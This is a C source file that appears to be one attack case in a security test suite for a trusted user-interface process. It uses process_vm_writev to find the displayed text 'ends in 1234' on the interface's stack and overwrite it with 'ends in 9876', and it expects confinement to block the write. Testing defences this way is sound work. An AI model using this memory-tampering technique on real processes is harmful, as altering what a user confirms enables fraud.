// SPDX-License-Identifier: Apache-2.0
/*
 * Changes the statement in the trusted user interface's memory while it is shown.
 *
 * attack: process_vm_writev
 * class: process
 * when: session
 * judge: self
 * defence: confinement
 * why: process_vm_writev(2) on the stack, where the request is; denied, and no CAP_SYS_PTRACE
 */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>

#include "memory.h"
#include "process.h"
#include "report.h"

#define OLD "ends in 1234"
#define NEW "ends in 9876"

static int write_vm(pid_t pid, uint64_t address, const char *text, size_t size)
{
	char copy[sizeof(NEW)];
	struct iovec local = { copy, size }, remote = { (void *)address, size };

	memcpy(copy, text, size);
	return process_vm_writev(pid, &local, 1, &remote, 1, 0) == (ssize_t)size ? 0 : -errno;
}

/* Everywhere on the stack; how often, or a negative errno. */
static int change(pid_t pid, const struct memory_range *stack)
{
	size_t size = stack->end - stack->start, len = sizeof(OLD) - 1;
	char *memory = malloc(size), *at = memory;
	ssize_t got = memory ? memory_read_vm(pid, stack->start, memory, size) : -ENOMEM;
	int ret = 0, count = 0;

	if (got < 0)
		ret = (int)got;
	while (!ret && (at = memmem(at, size - (size_t)(at - memory), OLD, len))) {
		ret = write_vm(pid, stack->start + (size_t)(at - memory), NEW, len);
		at += len;
		count++;
	}
	free(memory);
	return ret ? ret : count;
}

int main(void)
{
	struct memory_range stack;
	int changed, left;
	pid_t pid;

	attack_init();
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	if (memory_find(pid, "[stack]", &stack))
		attack_failed("it sees no stack of process %d", pid);
	changed = change(pid, &stack);
	if (changed < 0)
		attack_failed("memory of process %d: %s", pid, strerror(-changed));
	left = change(pid, &stack);
	if (!changed || left)
		attack_failed("changed %d times, and it is there %d times still", changed, left);
	attack_succeeded("the statement in its memory now says '" NEW "', in %d places", changed);
}
